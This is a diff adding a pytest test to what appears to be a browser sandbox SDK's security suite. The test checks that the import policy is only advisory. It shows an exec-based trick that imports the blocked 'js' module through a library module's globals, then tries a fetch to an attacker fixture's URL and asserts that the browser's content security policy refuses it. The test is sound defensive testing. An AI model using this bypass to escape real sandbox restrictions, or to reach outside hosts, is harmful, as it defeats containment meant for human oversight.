@@ -220,3 +220,22 @@ def test_sandbox_frame_is_an_opaque_origin(sdk: SdkPage, open_sandbox: str) -> N
     assert attrs and all(a == "allow-scripts" for a in attrs)
     origin = sdk.run(open_sandbox, "import js\njs.location.origin")["value"]["text/plain"]
     assert origin == "'null'"
+
+
+def test_the_import_policy_is_advisory_and_the_browser_still_holds(
+    sdk: SdkPage, attacker: Attacker
+) -> None:
+    """The policy says so in environment(); an import run in a library module's own globals
+    gets past it, and the browser still refuses the request."""
+    sandbox = sdk.create()  # the default policy
+    notes = sdk.call(sandbox, "environment")["notes"]
+    assert any("import policy" in note and "advisory" in note for note in notes)
+    forged = sdk.run(sandbox, "exec('import js', {'__spec__': __import__('json').__spec__})")
+    assert forged["outcome"] == "OUTCOME_POLICY_VIOLATION"
+    code = f"import json\nexec('import js', json.__dict__)\nawait json.js.fetch('{attacker.url}/x')"
+    result = sdk.run(sandbox, code, timeoutMs=10_000)
+    assert result["outcome"] == "OUTCOME_FAILED"
+    assert "Failed to fetch" in result["error"]["message"]
+    attempts = result["audit"]["networkAttempts"]
+    assert {"kind": "csp:connect-src", "target": f"{attacker.url}/x"} in attempts
+    assert attacker.hits == []
